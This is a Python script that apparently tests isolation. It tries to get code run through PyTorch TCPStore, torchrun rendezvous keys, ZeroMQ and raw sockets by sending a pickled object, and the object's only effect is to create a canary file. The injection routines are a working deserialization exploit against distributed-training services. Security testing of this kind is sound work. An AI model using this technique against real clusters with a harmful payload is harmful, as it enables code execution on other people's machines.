"""A process without the key, and without special rights, that tries to run code through every port that it is given.

Usage: ``python stranger.py CANARY HOST:PORT...``. Its data creates the file CANARY wherever it is unpickled. It prints as a line of
JSON what worked at each port: the keys that it read and wrote in a store, and whether a ZeroMQ peer let it in.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import zmq
from torch._C import _distributed_c10d as c10d

NOBODY = 65534
PATIENCE = timedelta(seconds=3)
# Where torchrun's c10d rendezvous keeps its state, for each id.
RENDEZVOUS = "torch.rendezvous."


class Bomb:
    """Creates a file where it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._path,)


def attack_store(host: str, port: int, bomb: bytes) -> dict[str, Any]:
    """Read every key of a store, and write the bomb to each and to those in which torchrun's agents meet."""
    store = c10d.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=PATIENCE)
    store.set_timeout(PATIENCE)
    read = list(store.list_keys())
    for key in {*read, f"{RENDEZVOUS}none", f"{RENDEZVOUS}labkit"}:
        store.set(key.removeprefix("/"), base64.b64encode(bomb) if RENDEZVOUS in key else bomb)
    return {"read": len(read)}


def attack_hub(host: str, port: int, bomb: bytes) -> dict[str, Any]:
    """Send the bomb as a ZeroMQ peer without security, and as one with a key of its own for a server that it cannot know."""
    let_in = False
    public, secret = zmq.curve_keypair()
    with zmq.Context() as context:
        for curve in (False, True):
            for kind in (zmq.DEALER, zmq.PUSH):
                with context.socket(kind) as peer:
                    peer.linger = 0
                    if curve:
                        peer.curve_serverkey, peer.curve_publickey, peer.curve_secretkey = public, public, secret
                    monitor = peer.get_monitor_socket(zmq.Event.HANDSHAKE_SUCCEEDED)
                    peer.connect(f"tcp://{host}:{port}")
                    with contextlib.suppress(zmq.Again):
                        peer.send_multipart([b"1,1", bomb, bomb], flags=zmq.NOBLOCK)
                    let_in |= bool(monitor.poll(500))
                    peer.disable_monitor()
    return {"let in": let_in}


def attack_raw(host: str, port: int, bomb: bytes) -> dict[str, Any]:
    """Send the bomb bare, after its length, and as JSON would hold it."""
    for data in (bomb, struct.pack(">Q", len(bomb)) + bomb, struct.pack("<q", len(bomb)) + bomb):
        with contextlib.suppress(OSError), socket.create_connection((host, port), 1.0) as peer:
            peer.sendall(data)
            peer.settimeout(0.2)
            peer.recv(64)
    return {}


def attempt(attack: Callable[[str, int, bytes], dict[str, Any]], place: str, bomb: bytes, found: dict[str, Any]) -> None:
    """Note the result of an attack; nothing if it fails."""
    host, _, port = place.rpartition(":")
    with contextlib.suppress(Exception):
        found.update(attack(host, int(port), bomb))


def main() -> None:
    """Attack every port, all at once: some of them keep a stranger waiting."""
    canary, *places = sys.argv[1:]
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    bomb = pickle.dumps(Bomb(Path(canary)))
    found: dict[str, dict[str, Any]] = {place: {} for place in places}
    ways = (attack_store, attack_hub, attack_raw)
    tries = [(attack, place, bomb, found[place]) for attack in ways for place in places]
    threads = [threading.Thread(target=attempt, args=arguments, daemon=True) for arguments in tries]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 3 * PATIENCE.total_seconds()
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
    print(json.dumps(found), flush=True)
    os._exit(0)  # a store's client that gets no answer would delay the end


if __name__ == "__main__":
    main()
